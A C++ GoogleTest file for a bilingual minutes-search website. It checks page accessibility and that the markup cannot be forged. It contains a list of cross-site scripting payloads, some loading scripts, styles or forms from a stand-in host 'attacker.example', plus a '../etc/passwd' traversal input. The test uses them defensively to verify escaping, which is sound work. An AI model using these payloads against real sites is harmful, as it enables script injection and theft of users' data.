// SPDX-License-Identifier: GPL-2.0-or-later
// What holds on every page: structure for those who cannot see it, and markup that nobody can forge.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <set>
#include <string>

#include "schema/fields.h"
#include "tests/web/page_reader.h"
#include "tests/web/small_site.h"
#include "web/field_labels.h"
#include "web/links.h"

namespace minutebook::web {
namespace {

using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::Not;

const std::vector<std::string> kPages = {
    "/",
    "/search",
    "/search?q=decisions+on+carbon+chaired+by+Marian+Hesketh&kind=decision&from=2018",
    "/search?q=carbon+-walls+group:meeting",
    "/search?q=who+chaired+in+2019",
    "/search?q=harbuors",
    "/search?q=xylophonic+zeppelins",
    "/search?q=*&page=3",
    "/search?q=carbon&page=4000",
    "/search?page=x&from=yesterday",
    "/facet/speaker?q=carbon",
    "/facet/chair?prefix=zzz",
    "/help",
    "/accessibility",
    "/decisions?q=carbon+since+2018&organization=Harbour+and+Coast+Board",
    "/actions?page=2",
    "/timeline?from=2018&to=2020",
    "/timeline",
    "/person/Marian%20Hesketh",
    "/person/Officers",
    "/person/Marian%20Heskth",
    "/body/Harbour%20and%20Coast%20Board",
    "/body/nothing%20of%20the%20kind",
    "/coverage",
    "/nothing",
};

class EveryPage : public testing::TestWithParam<std::tuple<std::string, std::string>> {
 protected:
  std::string page() const {
    const auto& [path, lang] = GetParam();
    return get(path + (path.find('?') == std::string::npos ? "?lang=" : "&lang=") + lang).body;
  }
};

TEST_P(EveryPage, IsNamedAndDividedForThoseWhoCannotSeeIt) {
  const std::string body = page();
  EXPECT_EQ(tags_in(body, "h1").size(), 1U);
  EXPECT_EQ(tags_in(body, "main").size(), 1U);
  EXPECT_EQ(tags_in(body, "html").front().at("lang"), std::get<1>(GetParam()));
  EXPECT_FALSE(tags_in(body, "title").front().text.empty());
  EXPECT_EQ(tags_in(body, "a").front().at("href"), "#main");
  int level = 0;
  for (const Tag& tag : tags_in(body)) {
    if (tag.name.size() != 2 || tag.name[0] != 'h' || tag.name == "hr") continue;
    const int next = tag.name[1] - '0';
    EXPECT_LE(next, level + 1) << "a level is left out before " << tag.text;
    level = next;
  }
}

TEST_P(EveryPage, EveryReferenceHasItsElementAndEveryControlItsLabel) {
  const std::string body = page();
  std::set<std::string> ids;
  std::set<std::string> labelled;
  for (const Tag& tag : tags_in(body)) {
    if (tag.has("id")) {
      EXPECT_TRUE(ids.insert(tag.at("id")).second) << tag.at("id");
    }
    if (tag.name == "label") labelled.insert(tag.at("for"));
  }
  for (const Tag& tag : tags_in(body)) {
    for (const std::string attribute :
         {"for", "form", "aria-labelledby", "aria-describedby", "aria-controls"}) {
      if (tag.has(attribute)) {
        EXPECT_THAT(ids, Contains(tag.at(attribute))) << tag.name << ' ' << attribute;
      }
    }
    const bool is_control = tag.name == "select" || (tag.name == "input" && tag.at("type") != "hidden");
    if (is_control) {
      EXPECT_THAT(labelled, Contains(tag.at("id"))) << tag.at("name");
    }
    if (tag.name == "a" || tag.name == "button") {
      EXPECT_FALSE(tag.text.empty()) << tag.at("href");
    }
    if (tag.name == "fieldset") {
      EXPECT_FALSE(tag.text.empty());
    }
  }
}

TEST_P(EveryPage, HasNothingInlineAndNothingFromElsewhere) {
  for (const Tag& tag : tags_in(page())) {
    EXPECT_NE(tag.name, "style");
    EXPECT_FALSE(tag.has("style"));
    for (const auto& [name, value] : tag.attributes) EXPECT_FALSE(name.starts_with("on")) << name;
    if (tag.name == "script" || tag.name == "link" || tag.name == "img") {
      EXPECT_THAT(tag.at(tag.name == "link" ? "href" : "src"), testing::StartsWith("/"));
    }
    if (tag.name == "script") {
      EXPECT_EQ(tag.text, "");
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Pages, EveryPage,
                         testing::Combine(testing::ValuesIn(kPages), testing::Values("en", "cy")));

// What attacks try in HTML, attributes, addresses, scripts, styles and templates; our own collection.
const std::vector<std::string> kPayloads = {
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//attacker.example/x.js></script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<style>*{background:url(//attacker.example)}</style>",
    "<base href=//attacker.example/>",
    "<meta http-equiv=refresh content=0;url=//attacker.example>",
    "<form action=//attacker.example><input name=q>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='",
    "\" style=\"background:url(//attacker.example)",
    "x\" onmouseover=\"alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//attacker.example/",
    "\\\\attacker.example\\",
    "/\\attacker.example",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\xe2\x80\xaa<b>\xe2\x80\xae",
    "<mark>forged</mark>",
    "\x01\x02\x1b[31m<b>",
    "\"<b>\" OR chair:\"<i>\"",
};

// The elements and attributes that pages are made of.
const std::set<std::string> kElements = {
    "html",   "head",    "meta",       "title",  "link",   "script",   "body",    "a",      "header",
    "div",    "nav",     "form",       "label",  "input",  "button",   "main",    "h1",     "h2",
    "h3",     "p",       "ul",         "ol",     "li",     "span",     "time",    "dl",     "dt",
    "dd",     "details", "summary",    "select", "option", "fieldset", "code",    "mark",   "table",
    "thead",  "tbody",   "tr",         "th",     "td",     "caption",  "section", "footer", "legend",
    "strong", "figure",  "figcaption", "svg",    "desc",   "line",     "rect",    "text"};

void expect_unforged(const std::string& page, const std::string& payload) {
  std::size_t scripts = 0;
  for (const Tag& tag : tags_in(page)) {
    EXPECT_THAT(kElements, Contains(tag.name)) << payload;
    if (tag.name == "script") ++scripts;
    for (const auto& [name, value] : tag.attributes) {
      EXPECT_FALSE(name.starts_with("on") || name == "style" || name == "srcdoc") << payload;
      if (name != "href" && name != "src" && name != "action") continue;
      EXPECT_TRUE(value.starts_with("/") || value.starts_with("#")) << payload << " gives " << value;
      EXPECT_FALSE(value.starts_with("//")) << payload;
    }
  }
  EXPECT_EQ(scripts, 1U) << payload;
  EXPECT_THAT(page, Not(HasSubstr("\x1b"))) << payload;
}

TEST(Markup, IsNotForgedThroughAnyParameter) {
  for (const std::string& payload : kPayloads) {
    for (const std::string name : {"q", "kind", "chair", "organization", "year", "title", "source", "from",
                                   "sort", "group", "page", "lang"}) {
      const Response answer = get("/search?" + write_query({{name, payload}}));
      EXPECT_TRUE(answer.status == 200 || answer.status == 400) << name << ' ' << payload;
      expect_unforged(answer.body, payload);
    }
    for (const std::string path : {"/decisions?", "/actions?", "/timeline?"}) {
      for (const std::string name : {"q", "chair", "owner", "from"}) {
        expect_unforged(get(path + write_query({{name, payload}})).body, payload);
      }
    }
    expect_unforged(get("/facet/speaker?" + write_query({{"prefix", payload}, {"q", payload}})).body,
                    payload);
  }
}

TEST(Markup, IsNotForgedThroughPathsAndLanguages) {
  for (const std::string& payload : kPayloads) {
    for (const std::string folder :
         {"/", "/facet/", "/search/", "/assets/", "/help", "/person/", "/body/", "/authority/"}) {
      expect_unforged(get(folder + percent_encoded(payload)).body, payload);
    }
    expect_unforged(get("/help?" + write_query({{"lang", payload}})).body, payload);
    expect_unforged(get("/search?" + write_query({{payload, payload}, {"q", "carbon"}})).body, payload);
  }
}

TEST(Links, APaperIsBelowItsFolderOrNowhere) {
  SiteOptions options;
  EXPECT_EQ(path_in_papers(options, "/papers/a.pdf"), std::nullopt);
  options.papers = "/papers";
  EXPECT_EQ(path_in_papers(options, "/papers/a.pdf"), "a.pdf");
  EXPECT_EQ(path_in_papers(options, "/papers/2019/a b.pdf"), "2019/a b.pdf");
  EXPECT_EQ(path_in_papers(options, "/papers/../etc/passwd"), std::nullopt);
  EXPECT_EQ(path_in_papers(options, "/papers-of-others/a.pdf"), std::nullopt);
  EXPECT_EQ(path_in_papers(options, "/papers"), std::nullopt);
  options.papers = "/papers/";
  EXPECT_EQ(path_in_papers(options, "/papers/a.pdf"), "a.pdf");
}

TEST(Labels, EveryFixedValueOfAFacetIsCalledSomethingInBothLanguages) {
  for (const schema::Field field : schema::facets()) {
    for (const std::string_view value : schema::spec(field).values) {
      EXPECT_NE(label_of(Lang::kWelsh, field, value), value) << schema::spec(field).name << ' ' << value;
    }
  }
}

}  // namespace
}  // namespace minutebook::web
